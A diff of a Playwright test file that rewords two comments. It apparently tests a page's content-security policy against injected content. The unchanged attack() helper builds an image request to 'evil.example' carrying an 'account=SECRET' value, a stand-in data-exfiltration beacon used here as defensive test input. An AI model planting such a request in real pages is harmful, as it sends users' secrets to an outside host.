@@ -7,7 +7,7 @@ import { expect, test } from '../fixtures.ts';
 // The headless shell sends no reports.
 const launchOptions = { executablePath: process.env.CHROMIUM_PATH, args: chromiumFlags };
 test.use({ ignoreHTTPSErrors: true, launchOptions });
-// In one worker: a browser of their own costs more than they do.
+// One worker plays them all: a browser of their own costs more than they do.
 test.describe.configure({ mode: 'default' });
 
 /** Runs even when the journey fails. */
@@ -53,7 +53,7 @@ for (const [how, front] of Object.entries(fronts)) {
   });
 }
 
-/** In the page: a foreign picture, text as markup, scripts without their hashes. The shell's is preloaded with its hash. */
+/** Tries a foreign picture, text as markup, scripts without their hashes. The shell's is preloaded with its hash. */
 async function attack(): Promise<Record<string, string>> {
   const picture = new Image();
   picture.src = 'https://evil.example/pixel.png?account=SECRET';
